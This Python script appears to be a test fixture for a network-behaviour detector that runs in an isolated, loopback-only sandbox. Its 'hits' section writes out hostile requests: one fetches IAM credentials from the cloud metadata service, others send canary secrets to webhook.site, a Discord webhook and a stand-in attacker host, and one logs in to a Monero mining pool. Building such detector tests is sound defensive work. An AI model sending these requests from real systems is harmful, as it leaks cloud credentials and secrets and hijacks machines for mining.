#!/usr/bin/python3
"""Connections, listening sockets and payloads. Only loopback exists in the
netns: 169.254.169.254 and fd00:ec2::254 fail with ENETUNREACH (intended);
names resolve through the sink to 127.53.X.Y where TCP sinks accept."""
import socket

def tcp(host, port, payload=None, family=socket.AF_INET):
    try:
        if family == socket.AF_INET6:
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            s.settimeout(2); s.connect((host, port, 0, 0))
        else:
            s = socket.create_connection((host, port), timeout=2)
        if payload:
            s.sendall(payload)
            try: s.recv(1024)
            except OSError: pass
        s.close()
    except OSError as e:
        print(host, port, e)

# --- hits ---
tcp("169.254.169.254", 80, b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n")  # cloud metadata
tcp("fd00:ec2::254", 80, family=socket.AF_INET6)                                 # IPv6 metadata
tcp("webhook.site", 80, b"POST /3f1d2c HTTP/1.1\r\nHost: webhook.site\r\nContent-Length: 31\r\n\r\ntoken=CANARY-npm-4f1c2a9e7d3b\r\n")  # exfil endpoint + canary
tcp("discord.com", 80, b"POST /api/webhooks/1234567890/AbCdEf HTTP/1.1\r\nHost: discord.com\r\n\r\n{\"content\":\"hi\"}")  # discord webhook
tcp("api.telegram.org", 443)                                                     # exfil endpoint
tcp("pool.minexmr.com", 3333, b'{"id":1,"method":"login","params":{"login":"44AFFq5k","pass":"x","agent":"xmrig/6.21.0"}}\n')  # mining (stratum)
tcp("evil-cdn.attacker.example", 8443)                                           # non-registry host
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"aws_secret=CANARY-aws-9b8c7d6e5f4a", ("127.0.0.1", 9999))            # canary in a UDP payload
# listening on all interfaces
for fam, addr in ((socket.AF_INET, ("0.0.0.0", 8080)), (socket.AF_INET6, ("::", 8082))):
    l = socket.socket(fam, socket.SOCK_STREAM); l.bind(addr); l.listen(1); l.close()

# --- near misses ---
tcp("registry.npmjs.org", 443)                     # the ecosystem's registry
tcp("127.0.0.1", 8443, b"hello")                   # loopback service, no canary
u.sendto(b"ping", ("127.0.0.1", 9999))             # payload without a canary
l = socket.socket(); l.bind(("127.0.0.1", 8081)); l.listen(1); l.close()   # loopback listen
